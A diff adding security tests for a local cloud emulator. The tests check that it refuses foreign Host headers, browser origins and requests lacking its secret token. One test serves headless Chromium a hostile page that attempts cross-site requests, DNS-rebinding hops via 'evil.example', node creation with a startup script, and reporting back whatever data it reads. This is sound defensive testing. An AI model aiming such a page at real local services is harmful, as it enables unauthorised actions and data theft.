@@ -1,0 +1,308 @@
+"""The emulator answers the programs it is meant for, and no web page: neither its requests nor those of a browser."""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import subprocess
+import tempfile
+import threading
+from collections.abc import Iterator
+from contextlib import contextmanager
+from http.client import HTTPConnection
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import pytest
+import requests
+from rig import Rig
+
+from cloud_emulator import Emulator
+
+PLACE = "v2/projects/tpulm-emulator/locations/us-central1-a/nodes"
+BUCKET = "storage/v1/b/runs"
+
+
+@pytest.fixture(scope="module")
+def emulator() -> Iterator[Emulator]:
+    with Emulator() as running:
+        running.create_bucket("runs")
+        yield running
+
+
+def status_of(address: str, path: str, headers: dict[str, str], method: str = "GET") -> int:
+    """Of a request with these headers and no others."""
+    connection = HTTPConnection(address, timeout=30)
+    connection.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
+    for name, value in headers.items():
+        connection.putheader(name, value)
+    connection.endheaders()
+    status = connection.getresponse().status
+    connection.close()
+    return status
+
+
+@pytest.mark.parametrize(
+    ("host", "expected"),
+    [
+        ("127.0.0.1:PORT", 200),
+        ("127.0.0.1", 200),
+        ("localhost:PORT", 200),
+        ("LocalHost", 200),
+        ("[::1]:PORT", 200),
+        ("localhost:80", 200),  # a forwarded port
+        ("evil.example", 421),
+        ("evil.example:PORT", 421),
+        ("127.0.0.1.evil.example:PORT", 421),
+        ("localhost.evil.example", 421),
+        ("evil.example:127.0.0.1", 421),
+        ("127.0.0.1@evil.example", 421),
+        ("0.0.0.0:PORT", 421),
+        ("127.0.0.2:PORT", 421),
+        ("[::ffff:127.0.0.1]:PORT", 421),
+        ("metadata.google.internal", 421),
+        ("", 421),
+    ],
+)
+def test_a_host_is_a_loopback_name(emulator: Emulator, host: str, expected: int):
+    url = urlsplit(emulator.url)
+    headers = {"Host": host.replace("PORT", str(url.port))}
+    assert status_of(url.netloc, f"{url.path}/{BUCKET}", headers) == expected
+
+
+@pytest.mark.parametrize("origin", ["http://evil.example", "null", "http://127.0.0.1:PORT", ""])
+def test_nobody_has_an_origin(emulator: Emulator, origin: str):
+    url = urlsplit(emulator.url)
+    headers = {"Host": url.netloc, "Origin": origin.replace("PORT", str(url.port))}
+    assert status_of(url.netloc, f"{url.path}/{BUCKET}", headers) == 403
+    preflight = {**headers, "Access-Control-Request-Method": "DELETE"}
+    assert status_of(url.netloc, f"{url.path}/{BUCKET}", preflight, "OPTIONS") == 403
+
+
+@pytest.mark.parametrize(
+    ("method", "path"),
+    [
+        ("GET", ""),
+        ("GET", "_control/status"),
+        ("POST", "_control/faults"),
+        ("GET", "_control/tpu/status"),
+        ("POST", "_control/tpu/preempt"),
+        ("POST", f"{PLACE}?nodeId=evil"),
+        ("GET", PLACE),
+        ("POST", "upload/storage/v1/b/runs/o?uploadType=media&name=evil"),
+        ("PUT", "upload/storage/v1/b/runs/o?uploadType=resumable&upload_id=x"),
+        ("GET", f"{BUCKET}/o"),
+        ("DELETE", BUCKET),
+        ("PUT", f"{BUCKET}/iam"),
+        ("POST", "batch/storage/v1"),
+        ("GET", "runs/object"),
+        ("POST", "_iam/v1/projects/tpulm-emulator/serviceAccounts"),
+        ("GET", "_secretmanager/v1/projects/tpulm-emulator/secrets"),
+        ("POST", "_serviceusage/v1/projects/tpulm-emulator/services:batchEnable"),
+        ("GET", "no/such/path"),
+    ],
+)
+def test_nothing_is_answered_without_the_token(emulator: Emulator, method: str, path: str):
+    url = urlsplit(emulator.url)
+    token = url.path.strip("/")
+    answered = emulator.requests
+    others = ("", f"/{token[:-1]}", f"/{token}0", f"/{token[::-1]}", f"/%{ord(token[0]):x}{token[1:]}", f"//{token}")
+    for prefix in others:
+        assert status_of(url.netloc, f"{prefix}/{path}", {"Host": url.netloc, "Content-Length": "0"}, method) == 403, prefix
+    assert emulator.requests == answered
+
+
+def test_every_emulator_has_another_token():
+    assert len({Emulator().url for _ in range(5)}) == 5
+
+
+def test_a_refusal_says_what_to_do(emulator: Emulator):
+    answer = requests.post(f"http://{urlsplit(emulator.url).netloc}/_control/faults", json={}, timeout=30)
+    assert "the addresses that 'tpulm cloud emulator' printed" in answer.json()["error"]["message"]
+
+
+def test_metadata_servers_know_their_names(rig: Rig):
+    address = f"{rig.create().network_endpoints[0].ip_address}:8479"
+    path, flavor = "/computeMetadata/v1/instance/attributes/", {"Metadata-Flavor": "Google"}
+    for host in (address, address.partition(":")[0], "metadata.google.internal"):
+        assert status_of(address, path, {"Host": host, **flavor}) == 200
+        assert status_of(address, path, {"Host": host, "Origin": "http://evil.example", **flavor}) == 403
+    for host in ("evil.example", "evil.example:8479", "localhost", "metadata.google.internal.evil.example", ""):
+        assert status_of(address, path, {"Host": host, **flavor}) == 421
+
+
+# A page that does what it can. BASES are addresses of the emulator; those without a host belong to the page's own site, whose
+# name leads to the emulator by then. What could be read is reported, and the page of the next site follows.
+PAGE = """<!doctype html><body><script>
+const next = {"localhost": "127.0.0.1", "127.0.0.1": "evil.example"}[location.hostname];
+const bases = BASES.filter(base => base.startsWith("http") || !next);
+const node = id => "/PLACE?nodeId=" + id;
+const body = JSON.stringify({acceleratorType: "v3-8", runtimeVersion: "tpu-ubuntu2204-base",
+                             metadata: {"startup-script": "#!/bin/bash\\ntouch MARK"}});
+const upload = "/upload/BUCKET/o?uploadType=media&name=evil", kept = "/BUCKET/o/kept";
+const read = [];
+let count = 0;
+async function attempt(url, options) {
+  try {
+    const answer = await fetch(url, {signal: AbortSignal.timeout(5000), ...options});
+    const text = await answer.text();
+    if (answer.ok) read.push(url + " " + text);
+  } catch {}
+}
+function frame() {
+  const made = document.createElement("iframe");
+  made.name = "frame" + count++;
+  document.body.append(made);
+  return made.name;
+}
+function form(url, enctype, fields) {
+  const made = document.createElement("form");
+  Object.assign(made, {method: "POST", action: url, enctype, target: frame()});
+  for (const [name, value] of fields) {
+    const input = document.createElement("input");
+    Object.assign(input, {type: "hidden", name, value});
+    made.append(input);
+  }
+  document.body.append(made);
+  made.submit();
+}
+function tag(kind, url) {
+  return new Promise(done => {
+    const made = document.createElement(kind);
+    made.onload = made.onerror = done;
+    made.src = url;
+    document.body.append(made);
+    setTimeout(done, 2000);
+  });
+}
+async function attack(base, number) {
+  const id = location.hostname.replaceAll(".", "-") + "-" + number;
+  for (const type of ["text/plain", "multipart/form-data", "application/x-www-form-urlencoded"]) {
+    const kind = type.slice(0, 3) + type.length;
+    form(base + node(`f-${kind}-${id}`), type, [[body.slice(0, -1) + ', "description": "', '"}']]);
+    form(base + "/_control/faults", type, [['{"read_only": true, "match": "', '"}']]);
+    form(base + upload, type, [["x", "y"]]);
+  }
+  for (const mode of ["no-cors", "cors"]) {
+    for (const type of ["text/plain", "application/json"]) {
+      const options = {method: "POST", mode, headers: {"Content-Type": type}};
+      await attempt(base + node(`p-${mode}-${type.length}-${id}`), {...options, body});
+      await attempt(base + "/_control/faults", {...options, body: '{"read_only": true}'});
+      await attempt(base + upload, {...options, body: "x"});
+    }
+    await attempt(base + upload, {method: "POST", mode: "cors", body: "x", headers: {Authorization: "Bearer x"}});
+    await attempt(base + kept, {method: "DELETE", mode});
+    for (const path of [kept + "?alt=media", "/runs/kept", "/BUCKET/o", "/_control/status", "/_control/tpu/status"])
+      await attempt(base + path, {mode});
+  }
+  navigator.sendBeacon(base + node("b-" + id), body);
+  for (const kind of ["img", "script", "iframe"]) await tag(kind, base + "/_control/status");
+  for (const made of [...document.querySelectorAll("iframe")])
+    try {
+      const text = made.contentDocument.body.innerText;
+      if (text && !text.startsWith('{"error"')) read.push(text);
+    } catch {}
+  await attempt(base + "/_control/tpu/stock_out", {method: "POST", mode: "no-cors", body: '{"zone": "us-central1-a"}'});
+  try { new WebSocket(new URL(base + "/_control/status", location).href.replace("http", "ws")) } catch {}
+}
+(async () => {
+  await Promise.all(bases.map(attack));
+  await fetch("/report", {method: "POST", body: JSON.stringify({host: location.hostname, read})});
+  if (next) location = location.href.replace(location.hostname, next);
+})();
+</script>"""
+
+CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
+FLAGS = (
+    *("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking"),
+    *("--disable-component-update", "--disable-sync", "--no-proxy-server"),
+    "--host-resolver-rules=MAP evil.example 127.0.0.1",
+)
+
+
+class Site(ThreadingHTTPServer):
+    """A site of many names; of all but its page it knows nothing and asks the emulator, so that it is the same site."""
+
+    def __init__(self, emulator: str, page: str):
+        super().__init__(("127.0.0.1", 0), Visit)
+        self.emulator, self.page = emulator, page.encode()
+        self.reports: dict[str, list[str]] = {}
+        self.changed = threading.Condition()
+
+    @contextmanager
+    def open(self) -> Iterator[int]:
+        thread = threading.Thread(target=self.serve_forever, args=(0.05,))
+        thread.start()
+        try:
+            yield self.server_port
+        finally:
+            self.shutdown()
+            self.server_close()
+            thread.join()
+
+
+class Visit(BaseHTTPRequestHandler):
+    server: Site  # pyright: ignore[reportIncompatibleVariableOverride]
+
+    def answer(self) -> None:
+        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
+        if self.path == "/page":
+            status, kind, content = 200, "text/html", self.server.page
+        elif self.path == "/report":
+            status, kind, content = 200, "text/plain", b""
+            with self.server.changed:
+                report = json.loads(body)
+                self.server.reports[report["host"]] = report["read"]
+                self.server.changed.notify()
+        else:
+            connection = HTTPConnection(self.server.emulator, timeout=30)
+            connection.request(self.command, self.path, body, dict(self.headers.items()))
+            answer = connection.getresponse()
+            status, kind, content = answer.status, answer.headers.get("Content-Type", ""), answer.read()
+            connection.close()
+        self.send_response(status)
+        self.send_header("Content-Type", kind)
+        self.send_header("Content-Length", str(len(content)))
+        self.end_headers()
+        self.wfile.write(content)
+
+    do_GET = do_POST = do_PUT = do_DELETE = do_OPTIONS = answer  # noqa: N815
+
+    def log_message(self, format: str, *args: object) -> None:
+        pass
+
+
+@pytest.mark.skipif(CHROMIUM is None, reason="no browser: install chromium (or google-chrome)")
+def test_pages_of_other_sites_do_and_read_nothing(rig: Rig, tmp_path: Path):
+    """Neither without the token nor, should they have learnt it, with it."""
+    assert CHROMIUM is not None
+    rig.emulator.create_bucket("runs")
+    put = {"uploadType": "media", "name": "kept"}
+    requests.post(f"{rig.emulator.url}/upload/{BUCKET}/o", params=put, data=b"only for me", timeout=30).raise_for_status()
+    url, mark = urlsplit(rig.emulator.url), tmp_path / "a-script-ran"
+    bases = [
+        f"{site}{path}" for site in ("", f"http://{url.netloc}", f"http://localhost:{url.port}") for path in ("", url.path)
+    ]
+    page = PAGE.replace("BASES", json.dumps(bases)).replace("PLACE", PLACE).replace("BUCKET", BUCKET).replace("MARK", str(mark))
+    site = Site(url.netloc, page)
+    # A short path: Chromium's sockets lie there, whose names end at 107 bytes.
+    with tempfile.TemporaryDirectory(prefix="tpulm-", dir="/tmp", ignore_cleanup_errors=True) as home, site.open() as port:
+        command = [CHROMIUM, *FLAGS, f"--user-data-dir={home}/profile", f"http://localhost:{port}/page"]
+        environment = {**os.environ, "HOME": home, "TMPDIR": home}
+        browser = subprocess.Popen(command, env=environment, stdin=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        try:
+            with site.changed:
+                assert site.changed.wait_for(lambda: len(site.reports) == 3, timeout=120), site.reports
+        finally:
+            browser.kill()
+            browser.wait()
+    assert not any(site.reports.values()), site.reports
+    assert not rig.tpu.nodes() and not mark.exists()
+    status = requests.get(f"{rig.emulator.url}/_control/status", timeout=30).json()
+    assert not status["faults"]["read_only"]
+    listed = requests.get(f"{rig.emulator.url}/{BUCKET}/o", timeout=30).json()["items"]
+    assert [item["name"] for item in listed] == ["kept"]
+    assert requests.get(f"{rig.emulator.url}/runs/kept", timeout=30).content == b"only for me"
+    rig.create()  # no stock-out either
